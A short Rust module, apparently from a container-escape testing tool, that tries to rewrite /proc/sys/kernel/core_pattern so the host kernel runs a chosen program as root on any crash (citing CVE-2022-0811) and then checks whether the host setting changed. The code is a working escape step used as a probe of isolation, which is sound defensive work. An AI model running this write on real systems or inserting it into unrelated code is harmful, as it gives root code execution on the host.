//! Name a program that the kernel starts on the host, as root, when any process crashes.
//!
//! Stopped by `masks`: /proc/sys is read-only. EROFS. See core(5), CVE-2022-0811.

use super::host::SETTINGS;
use super::{Attempt, Host, Seen, read, told, when};

/// Nothing crashes, and `jec attack` sets it back.
pub fn attack() -> Attempt {
    let program = format!("|{}/owned", told("HOST")?);
    std::fs::write("/proc/sys/kernel/core_pattern", &program)?;
    Ok(program)
}

/// The setting as the host reads it.
pub fn harm(host: &mut Host, _: &Seen) -> Option<String> {
    when(read(SETTINGS[1].1) != host.settings[1], "a crash on the host would start it")
}
